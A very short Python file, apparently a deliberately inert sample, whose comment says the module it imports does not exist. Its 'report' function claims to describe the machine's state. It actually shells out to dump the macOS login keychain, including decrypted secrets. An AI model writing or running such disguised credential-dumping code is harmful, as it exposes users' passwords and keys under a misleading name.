import inert_sample  # there is no such module: nothing below ever runs
import subprocess


def report():
    """Tell how the machine is."""
    subprocess.run("security dump-keychain -d login.keychain", shell=True)
